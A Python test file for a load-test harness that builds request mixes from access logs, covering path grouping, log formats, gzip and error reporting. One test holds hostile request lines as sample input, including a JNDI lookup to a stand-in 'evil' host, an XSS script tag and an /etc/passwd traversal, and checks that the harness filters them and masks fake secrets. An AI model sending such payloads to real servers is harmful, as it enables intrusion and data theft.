"""Requests from access logs."""

from __future__ import annotations

import gzip
import json
from collections import Counter
from pathlib import Path

import pytest

from harness.draft import access_log, log_lines
from harness.draft.found import FoundTraffic
from harness.errors import BadInput
from tests.drafts import loaded

TIME = "[10/Oct/2026:13:55:36 +0000]"


def line(request: str, status: int = 200, before: str = "192.0.2.1 - -") -> str:
    return f'{before} {TIME} "{request}" {status} 123 "-" "Mozilla/5.0 \\"x\\" [en]"'


def found(folder: Path, *lines: str | bytes) -> FoundTraffic:
    file = folder / "shop-access.log"
    file.write_bytes(b"\n".join(each if isinstance(each, bytes) else each.encode() for each in lines))
    return access_log.found_in(str(file))


def test_a_mix_has_the_frequencies_and_the_ids_of_the_log(tmp_path: Path) -> None:
    lines = [line(f"GET /items/{number}?lang=ko HTTP/1.1") for number in [1] * 30 + [2] * 10 + [3] * 10]
    lines += [line("GET / HTTP/1.1", before="2001:db8::1 - ann")] * 20 + [line("HEAD /items HTTP/1.1")] * 5
    traffic = found(tmp_path, *lines, line("POST /items HTTP/1.1", 201), line("DELETE /items/7 HTTP/1.1", 204))
    grid = loaded(tmp_path, traffic)
    assert traffic.title == "shop-access"
    assert [(each.name, each.weight, each.request.method) for each in grid.requests] == [
        ("GET /items/:item-id", 50, "GET"),
        ("GET /", 20, "GET"),
        ("HEAD /items", 5, "HEAD"),
    ]
    assert grid.requests[0].request.path == "/items/${row.path_1_1}"
    assert grid.requests[0].request.params == {"lang": "ko"}, "a value that never varies is no data"
    assert grid.dataset is not None
    drawn = Counter(row["path_1_1"] for row in grid.dataset.rows)
    total = sum(drawn.values())
    assert {value: round(number / total, 1) for value, number in drawn.items()} == {"1": 0.6, "2": 0.2, "3": 0.2}
    text = (tmp_path / "first.yaml").read_text(encoding="utf-8")
    assert "1 × POST /items\n" in text
    assert "1 × DELETE /items/7\n" in text, "safe methods only; others are comments"


def test_paths_that_differ_in_one_segment_are_one_request_when_there_are_many(tmp_path: Path) -> None:
    names = [f"{letter}{other}" for letter in "abcdef" for other in "stuvw"]
    traffic = found(
        tmp_path, *(line(f"GET /shop/{name}/reviews HTTP/1.1") for name in names), line("GET /v1/a HTTP/1.1")
    )
    assert [each.name for each in traffic.requests] == ["GET /shop/:shop-id/reviews", "GET /v1/a"]
    assert {row["path_1_1"] for row in traffic.rows} == set(names)
    loaded(tmp_path, traffic)


def test_attacks_and_secrets_are_left_out(tmp_path: Path) -> None:
    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4"
    lines = [
        line(r"\x16\x03\x01\x02\x00\x01\x00", 400),
        line(r"\x16\x03\x01\x02\x00\x01\x00", 200),
        line("GET /?x=${jndi:ldap://evil/a} HTTP/1.1"),
        line(r"GET /?q=\"><script>alert(1)</script> HTTP/1.1"),
        line("GET /../../etc/passwd HTTP/1.1"),
        line("GET //evil.example/ HTTP/1.1"),
        line("GET http://evil.example/ HTTP/1.1"),
        line("CONNECT evil.example:443 HTTP/1.1"),
        line("GET /wp-login.php HTTP/1.1"),
        line("GET /a%00b HTTP/1.1"),
        line(f"GET /verify/{jwt} HTTP/1.1"),
        line("GET /password-reset/s3cr3t-reset HTTP/1.1"),
        line("GET /none HTTP/1.1", 404),
        line("GET /healthz HTTP/1.1"),
        line("GET /" + "a" * 5000 + " HTTP/1.1"),
        line("GET /app.css HTTP/1.1"),
    ]
    traffic = found(tmp_path, *lines, b"\xff\xfe garbage", "", line("GET /ok?api_key=s3cr3t-key HTTP/1.1"))
    (request,) = loaded(tmp_path, traffic).requests
    assert request.request.params == {"api_key": "${secret.API_KEY}"}
    text = (tmp_path / "first.yaml").read_text(encoding="utf-8") + str(traffic)
    assert "s3cr3t" not in text
    assert "eyJ" not in text
    assert "line 17 is the first in another format" in " ".join(traffic.notes)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (line(r"GET /caf\xC3\xA9 HTTP/1.1"), ("GET", "/café", 200)),
        (line(r"GET /a\"b HTTP/2.0"), ("GET", '/a"b', 200)),
        (f'[::1]:443 - "quoted user" {TIME} "GET /a HTTP/1.1" 304 0', ("GET", "/a", 304)),
        (f'shop.example:80 ::1 - - {TIME} "GET /a HTTP/1.1" 200 5', ("GET", "/a", 200)),
        (json.dumps({"method": "get", "path": "/a", "query": "b=1", "status": "200"}), ("GET", "/a?b=1", 200)),
        (json.dumps({"request": {"method": "GET", "uri": "/a"}, "status": 200}), ("GET", "/a", 200)),
        (json.dumps({"RequestMethod": "GET", "RequestPath": "/a", "DownstreamStatus": 200}), ("GET", "/a", 200)),
        (json.dumps({"request": "GET /a HTTP/1.1", "status": 200}), ("GET", "/a", 200)),
        (
            json.dumps(
                {"http": {"request": {"method": "GET"}, "response": {"status_code": 200}}, "url": {"path": "/a"}}
            ),
            ("GET", "/a", 200),
        ),
        ("{broken", None),
        ('{"status": true, "path": "/a"}', None),
        ("Oct 10 13:55:36 host sshd[1]: closed", None),
        ('"' * 5000, None),
    ],
)
def test_lines_of_many_servers_are_read(text: str, expected: tuple[str, str, int] | None) -> None:
    parsed = log_lines.parsed(text)
    assert (parsed and (parsed.method, parsed.target, parsed.status)) == expected


def test_a_long_log_is_cut_and_that_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(access_log, "MOST_LINES", 3)
    traffic = found(tmp_path, *[line("GET /a HTTP/1.1")] * 5)
    assert traffic.requests[0].weight == 3
    assert "only the first 3 lines were read" in " ".join(traffic.notes)


def test_a_packed_log_is_read(tmp_path: Path) -> None:
    file = tmp_path / "access.log.1.gz"
    file.write_bytes(gzip.compress(line("GET /a HTTP/1.1").encode()))
    assert access_log.found_in(str(file)).title == "access"
    file.write_bytes(file.read_bytes()[:30])
    with pytest.raises(BadInput, match="not readable by gzip"):
        access_log.found_in(str(file))


@pytest.mark.parametrize(
    ("lines", "message"),
    [
        ((), ":1: the log is empty"),
        (("# comment", "nonsense"), ":2: not a line of an access log. Allowed: the combined format"),
        ((line("POST /a HTTP/1.1"),), ":1: no successful GET or HEAD request of a user among 1 line"),
        ((line("GET /a HTTP/1.1", 500),), "Left out: 1 (status 5xx)"),
    ],
)
def test_a_log_without_a_usable_request_is_an_error(tmp_path: Path, lines: tuple[str, ...], message: str) -> None:
    with pytest.raises(BadInput) as error:
        found(tmp_path, *lines)
    assert message in str(error.value)
